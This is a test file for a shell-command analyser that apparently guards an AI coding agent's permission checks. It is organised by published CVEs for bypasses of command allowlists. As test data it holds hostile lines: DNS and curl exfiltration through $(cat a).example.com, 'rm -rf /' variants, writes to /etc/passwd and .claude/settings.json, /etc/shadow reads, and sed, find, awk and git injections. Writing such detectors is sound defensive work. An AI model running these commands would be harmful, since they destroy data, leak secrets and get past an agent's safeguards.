import { describe, expect, test } from 'vitest';
import { allReasons, analysed, effects, reasons, tree } from '../analyse/testing/analysed.ts';

/** Published bypasses of other tools' command filters. Each was an allowed program with an unexpected argument. */
const kinds = (line: string): readonly string[] => reasons(analysed(line));
const unexplained = (line: string): readonly string[] => kinds(line).filter((kind) => kind !== 'repository-code');

describe('CVE-2025-54795: a command behind the quotes of echo', () => {
  test('quotes end where the shell ends them', () => {
    expect(tree(analysed('echo ""; touch a; echo ""'))).toEqual(['0 echo ', '1 touch a', '2 echo ']);
    expect(tree(analysed('echo "\\"; touch a; echo \\""'))).toEqual(['0 echo "; touch a; echo "']);
    expect(tree(analysed("echo '\\'; touch a; echo '\\'"))).toEqual(['0 echo \\', '1 touch a', '2 echo \\']);
  });

  test('and again in the shell behind it', () => {
    expect(tree(analysed('eval echo "\\"; touch a; echo \\""'))).toContain('1<0 echo ; touch a; echo ');
    expect(effects(analysed('sh -c \'echo ""; touch a; echo ""\''))).toContain('write /srv/project/a');
  });
});

describe('CVE-2025-58764: a program of rg', () => {
  test.each([
    'rg --pre ./x a',
    'rg --pre=/tmp/x a',
    "rg --pre='sh -c id' a",
    'rg --hostname-bin=/tmp/x --hyperlink-format=x a',
    'rg --search-zip a',
    'timeout 5 rg --pre /tmp/x a',
    'ls | xargs rg --pre /tmp/x',
  ])('%s', (line) => {
    expect(unexplained(line)).not.toEqual([]);
  });

  test('rg by itself only reads', () => {
    expect(kinds('rg -n a src')).toEqual([]);
  });
});

describe('CVE-2025-64755: sed writes where its script says', () => {
  test.each([
    ["sed 'w /home/dev/.zshenv' a", 'write /home/dev/.zshenv'],
    ["sed -n '1w /home/dev/.zshenv' a", 'write /home/dev/.zshenv'],
    ["sed 's/a/b/w /home/dev/.zshenv' a", 'write /home/dev/.zshenv'],
    ["sed -e p -e 'w /home/dev/.zshenv' a", 'write /home/dev/.zshenv'],
    ["sed 'r /etc/shadow' a", 'read /etc/shadow'],
  ])('%s', (line, effect) => {
    const analysis = analysed(line);
    expect(effects(analysis).includes(effect) || allReasons(analysis).length > 0).toBe(true);
  });
});

describe('CVE-2025-66032: eight ways past a list of harmless commands', () => {
  test.each([
    ['man --html', 'man --html="touch a" ls'],
    ['man -H', 'man -Htouch ls'],
    ['sort --compress-program', 'sort --compress-program=sh a'],
    ['sort --compress-program, abbreviated', 'sort --compress-pro sh a'],
    ['sort -S with --compress-program', 'sort -S 1k --compress-program=./x a'],
    ['history -s and -a', 'history -s "touch a"; history -a ~/.bashrc'],
    ['git --upload-pack, abbreviated', 'git ls-remote --upload-pa="touch a" b'],
    ['git --upload-pack', 'git fetch --upload-pack="touch a; git-upload-pack" b'],
    ['sed e', "sed '1e touch a' b"],
    ['sed s///e', "sed 's/.*/touch a/e' b"],
    ['xargs -t', 'xargs -t touch echo'],
    ['xargs with a cluster', 'xargs -It touch t'],
    ['$IFS', 'rm$IFS-rf$IFS/'],
    ['$IFS in braces', 'touch${IFS}a'],
    ['$IFS as an argument', 'rm $IFS/etc'],
    ['${@P}', 'ls ${@P}'],
    ['${x@P}', "x='$(touch a)'; echo ${x@P}"],
    ['${x@P} in quotes', 'x=\'$(touch a)\'; echo "${x@P}"'],
  ])('%s: %j', (_, line) => {
    const analysis = analysed(line);
    const isSeen = effects(analysis).some((effect) => /^(?:write|delete) /u.test(effect));
    expect(isSeen || unexplained(line).length > 0).toBe(true);
  });

  test('xargs -t shows the command', () => {
    expect(tree(analysed('xargs -t touch echo'))[1]).toMatch(/^1<0 touch echo /u);
  });
});

describe('CVE-2025-55284: names that are looked up carry what was read', () => {
  test.each([
    'ping -c1 $(cat a).example.com',
    'nslookup `cat a`.example.com',
    'dig "$(base64 a).example.com"',
    'host $(cat a).example.com',
    'curl "http://$(cat a).example.com/"',
    'getent hosts $(cat a).example.com',
  ])('%s is asked about', (line) => {
    expect(unexplained(line)).not.toEqual([]);
  });

  test.each([
    'ping -c1 secret.example.com',
    'nslookup secret.example.com',
    'dig secret.example.com TXT',
    'host secret.example.com',
  ])('%s reaches its host', (line) => {
    expect(effects(analysed(line))).toContain('host secret.example.com');
  });
});

describe('CVE-2026-24887: find runs, writes and deletes', () => {
  test.each([
    ["find . -exec rm -rf / ';'", 'delete /**'],
    ['find . -execdir rm -rf / {} +', 'delete /**'],
    ["find . -name a -o -exec rm -rf / ';'", 'delete /**'],
    ['find / -delete', 'delete /**'],
    ['find . -fprintf /etc/passwd %p', 'write /etc/passwd'],
    ['find . -fprint /etc/passwd', 'write /etc/passwd'],
    ['find . -fls /etc/passwd', 'write /etc/passwd'],
    ['find . -fprint0 /etc/passwd', 'write /etc/passwd'],
  ])('%s: %s', (line, effect) => {
    expect(effects(analysed(line))).toContain(effect);
  });

  test.each([
    "find . -exec sh -c 'touch $0' {} ';'",
    'find . -exec /tmp/x {} +',
    "find . -okdir no-such-program ';'",
    'find . -no-such-test',
    'find . $X',
    'find . -files0-from $X',
  ])('%s is asked about', (line) => {
    expect(unexplained(line)).not.toEqual([]);
  });
});

describe('CVE-2026-24053: zsh writes where bash only has a word', () => {
  test.each(['echo x >! a', 'echo x >!a', 'echo x >>! a', '=ls', 'ls *(e:touch a:)', 'ls (#q)'])(
    '%s for zsh is not read at all',
    (line) => {
      expect(reasons(analysed(line, 'zsh'))).toEqual(['shell']);
      expect(kinds(`zsh -c '${line}'`)).toEqual(['shell']);
    },
  );

  test('bash writes a file of that name', () => {
    expect(effects(analysed('echo x >!a'))).toEqual(['write /srv/project/!a']);
    expect(effects(analysed('echo x >| a'))).toEqual(['write /srv/project/a']);
  });
});

describe('CVE-2026-25722: cd changes what a path means', () => {
  test.each([
    ['cd .claude && echo x > settings.json', 'write /srv/project/.claude/settings.json'],
    ['cd /etc && tee passwd', 'write /etc/passwd'],
    ['cd .. && cd .. && echo x > etc/passwd', 'write /etc/passwd'],
    ['(cd .git && touch hooks/pre-commit)', 'write /srv/project/.git/hooks/pre-commit'],
    ['pushd /etc && touch passwd', 'write /etc/passwd'],
    ['env -C /etc touch passwd', 'write /etc/passwd'],
    ['cd / && sh -c "touch etc/passwd"', 'write /etc/passwd'],
  ])('%s: %s', (line, effect) => {
    expect(effects(analysed(line))).toContain(effect);
  });

  test('cd .claude; echo x > settings.json tells both places', () => {
    expect(effects(analysed('cd .claude; echo x > settings.json'))).toEqual([
      'write /srv/project/settings.json',
      'write /srv/project/.claude/settings.json',
    ]);
  });

  test.each([
    'cd $X; echo x > settings.json',
    'f() { echo x > settings.json; }; cd .claude && f',
    'cd $X && touch a',
    'cd - && touch a',
    'for i in 1 2; do cd ..; touch a; done',
    'if true; then cd ..; fi; touch a',
    'f() { cd /etc; }; f; touch passwd',
    'eval "$X"; touch a',
    'popd && touch a',
  ])('%s is asked about', (line) => {
    expect(unexplained(line)).toContain('dynamic-word');
    expect(effects(analysed(line))).not.toContain('write /srv/project/a');
  });
});

describe('CVE-2026-25723: what is piped into sed', () => {
  test.each([
    "echo x | sed 'w /etc/passwd'",
    "echo x | sed -n 'w/etc/passwd'",
    "printf x | sed 's/x/y/w /etc/passwd'",
    "echo 'touch a' | sed 's/^//e'",
    'echo x | sed -i s/x/y/ /etc/passwd',
    'echo p | sed -f - /etc/passwd',
    'echo x | tee /etc/passwd',
    "echo x | sed -n 'e touch a'",
  ])('%s', (line) => {
    const analysis = analysed(line);
    expect(effects(analysis).includes('write /etc/passwd') || unexplained(line).length > 0).toBe(true);
  });
});

describe('CVE-2026-25724: a link leads past a rule', () => {
  test('the link is told of; where a path leads is for anyone who resolves it', () => {
    expect(effects(analysed('ln -s /etc/shadow a && cat a'))).toEqual(
      expect.arrayContaining([expect.stringMatching(/^write \/srv\/project\/a/u), 'read /srv/project/a']),
    );
  });

  test.each(['ln -s $X a', 'ln -s /etc "$X"'])('%s is asked about', (line) => {
    expect(unexplained(line)).not.toEqual([]);
  });
});

describe('CVE-2026-55607: git runs what a worktree configures', () => {
  test.each([
    'git status',
    'git diff',
    'git -C worktree status',
    'cd worktree && git status',
    'git worktree add b',
    'git log -p',
    'git show',
    'git blame a',
    'git add a',
    'git commit -m x',
    'git checkout b',
    'git stash',
  ])('%s runs code of the repository', (line) => {
    expect(kinds(line)).toContain('repository-code');
  });

  test.each([
    'git -c core.fsmonitor=./x status',
    'git --git-dir=./x status',
    'git --work-tree=/ status',
    'GIT_DIR=x git status',
    'GIT_CONFIG_GLOBAL=x git status',
    'git --exec-path=. status',
    'git --config-env=core.pager=X log',
    'git no-such-alias',
    'git config core.fsmonitor ./x',
  ])('%s is asked about', (line) => {
    const isWritten = effects(analysed(line)).some((effect) => effect.startsWith('write '));
    expect(isWritten || unexplained(line).length > 0).toBe(true);
  });
});

describe('awk is a language', () => {
  test.each([
    'awk \'BEGIN { system("touch a") }\'',
    'awk \'{ print > "a" }\' b',
    'awk \'{ print | "sh" }\' b',
    'awk \'BEGIN { while (("id" | getline x) > 0) print x }\'',
    'awk \'BEGIN { getline x < "/etc/shadow" }\'',
    'awk -v x=1 \'@load "filefuncs"\' a',
    "awk -i inplace '{ print }' a",
    'awk "$X" a',
  ])('%s is asked about', (line) => {
    expect(unexplained(line)).not.toEqual([]);
  });
});

describe('as many commands as one likes', () => {
  test('the last of two hundred is seen as the first is', () => {
    expect(effects(analysed(`${'ls; '.repeat(200)}rm -rf /`))).toContain('delete /**');
    expect(effects(analysed(`${'true && '.repeat(60)}rm -rf /`))).toContain('delete /**');
  });
});
